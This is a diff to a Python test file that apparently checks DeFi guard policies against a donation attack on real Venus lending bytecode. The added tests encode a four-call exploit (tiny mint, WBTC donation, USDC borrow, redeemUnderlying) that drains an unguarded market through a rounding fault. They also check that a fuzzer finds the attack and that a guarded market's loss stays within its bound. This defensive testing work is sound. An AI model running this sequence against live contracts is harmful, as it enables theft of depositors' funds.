@@ -1,5 +1,5 @@
 """The donation attack on the real Venus bytecode, as data: it empties a market, and a guarded one loses no
-more than its policy says. The search has not been shown to find it by itself: docs/fuzz/venus.md.
+more than its policy says. The search finds it too, told nothing: docs/fuzz/venus.md.
 """
 
 from __future__ import annotations
@@ -17,6 +17,7 @@ from guardrails.chain import Chain, Contract, Reverted, RevmChain
 from guardrails.deploy import blueprint, verify
 from guardrails.drill.upstream.venus import MAX, Venus, package
 from guardrails.fuzz import Outcome, Sequence, Step, World, find_target
+from guardrails.fuzz.search import PROFIT, Progress, search
 from guardrails.fuzz.target import Target
 from guardrails.policy import Policy
 from guardrails.risk.bounds import asset_loss, policy_loss
@@ -138,6 +139,90 @@ def test_drained_for_days_it_loses_no_more_than_the_bound(chain: Chain) -> None:
         assert bound is not None
         assert taken <= bound
     assert taken > 1_000_000 * DOLLAR
+
+
+# ---------------------------------------------------------------- what the search finds
+
+
+def call(target: str, function: str, *arguments: object) -> Step:
+    return Step("thief", target, function, arguments)
+
+
+FOUR = (
+    call("vWBTC", "mint(uint256)", 1),
+    call("WBTC", "transfer(address,uint256)", "@vWBTC", BTC - 1),
+    call("vUSDC", "borrow(uint256)", 419 * DOLLAR),
+    call("vWBTC", "redeemUnderlying(uint256)", BTC - 1),
+)
+"""With what the thief owns, and no flash loan: 50 shares for a satoshi, and one of them covers the loan."""
+ENTER = call("comptroller", "enterMarkets(address[])", ["@vWBTC"])
+
+
+def test_four_calls_are_enough_and_whatever_makes_the_shares_collateral(chain: Chain) -> None:
+    """On anvil too. A loan of one satoshi makes them collateral as well as entering the market does."""
+    target = find_target(UNGUARDED)
+    world = target.build(chain)
+    begin = world.snapshot()
+    for collateral, gained in ((ENTER, "418.9997"), (call("vWBTC", "borrow(uint256)", 1), "419")):
+        outcomes, profit = played(target, world, (*FOUR[:2], collateral, *FOUR[2:]))
+        assert [outcome.ok for outcome in outcomes] == [True] * 5
+        assert profit == Fraction(gained)
+        world.revert(begin)
+        begin = world.snapshot()
+    for left_out in range(4):
+        _, profit = played(target, world, (ENTER, *FOUR[:left_out], *FOUR[left_out + 1 :]))
+        assert profit <= 0
+        world.revert(begin)
+        begin = world.snapshot()
+
+
+def found(progress: Progress) -> bool:
+    return bool(progress.broken)
+
+
+@pytest.fixture
+def unguarded_find(pytestconfig: pytest.Config) -> tuple[tuple[Sequence, ...], int, int]:
+    """Where the search begins, its seed, and the sequences in which it must find a profit. The deep profile
+    begins with nothing, as docs/fuzz/venus.md tells; the quick one with what an ordinary borrower does, and
+    where the last call is missing."""
+    if pytestconfig.getoption("--guardrails-fuzz") == "deep":
+        return (), 2, 40_000
+    borrower = (
+        ENTER,
+        call("vWBTC", "mint(uint256)", BTC),
+        call("vWBTC", "redeemUnderlying(uint256)", BTC // 3),
+    )
+    return tuple(Sequence(UNGUARDED, steps) for steps in (borrower, (FOUR[0], ENTER, *FOUR[1:3]))), 1, 300
+
+
+@revm
+def test_the_search_finds_a_profit_in_the_unguarded_market(
+    unguarded_find: tuple[tuple[Sequence, ...], int, int],
+) -> None:
+    corpus, seed, most = unguarded_find
+    result = search(UNGUARDED, seed=seed, executions=most, corpus=corpus, on_progress=found)
+    (finding,) = result.findings
+    assert finding.property == PROFIT
+    assert result.profit > find_target(UNGUARDED).dust
+    functions = [step.function.partition("(")[0] for step in result.best.steps]
+    assert functions[-1] == "redeemUnderlying"  # rounded down: that is the fault
+    again = find_target(UNGUARDED)
+    world = again.build(RevmChain())
+    _, profit = played(again, world, result.best.steps)
+    assert profit == result.profit
+
+
+@revm
+def test_the_same_search_finds_nothing_beyond_the_bound_in_the_guarded_one(
+    unguarded_find: tuple[tuple[Sequence, ...], int, int],
+) -> None:
+    corpus, seed, most = unguarded_find
+    begin = [Sequence(GUARDED, one.steps) for one in corpus]
+    result = search(GUARDED, seed=seed, executions=most, corpus=begin)
+    assert result.findings == ()
+    assert result.bound is not None
+    assert 900_000 <= result.bound < 901_000
+    assert result.profit < 1_000  # what one coin buys
 
 
 # ---------------------------------------------------------------- ordinary users, and the other guards
